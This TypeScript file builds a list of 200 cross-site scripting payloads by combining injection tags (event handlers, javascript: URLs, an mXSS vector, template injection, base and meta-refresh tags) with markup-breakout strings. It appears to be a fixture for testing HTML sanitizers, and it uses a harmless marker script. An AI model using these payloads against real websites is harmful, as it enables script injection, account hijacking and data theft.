const script = 'window.taken=1';

const tags = [
  `<img src=x onerror=${script}>`,
  `<script>${script}</script>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<a href="javascript:${script}">here</a>`,
  `<body onload=${script}>`,
  `<details open ontoggle=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<input autofocus onfocus=${script}>`,
  `<form action="javascript:${script}"><button>go</button></form>`,
  `<math><mtext></form><mglyph><style><img src=x onerror=${script}>`,
  `<link rel=stylesheet href=//example.com/x.css>`,
  `<base href=//example.com/>`,
  `<meta http-equiv=refresh content="0;url=//example.com">`,
  `<object data="javascript:${script}"></object>`,
  `<template><img src=x onerror=${script}></template>`,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
];

/** Text before and after a tag, for each way to break out of the surrounding markup. */
const surroundings: readonly (readonly [string, string])[] = [
  ['', ''],
  ['">', '<"'],
  ["'>", "<'"],
  ['</title></textarea></style></noscript>', ''],
  ['--><!--', '-->'],
  ['</td></tr></table>', '<table>'],
  ['&lt;', '&gt;&#60;'],
  ['\u202e', '\u202c'],
  ['%3C', '%3E'],
  [']]>', '<![CDATA['],
];

/** 200 texts that would run or load something in a page that renders text as markup. */
export const markupPayloads: readonly string[] = surroundings.flatMap(([before, behind]) =>
  tags.map((tag) => `${before}${tag}${behind}`),
);
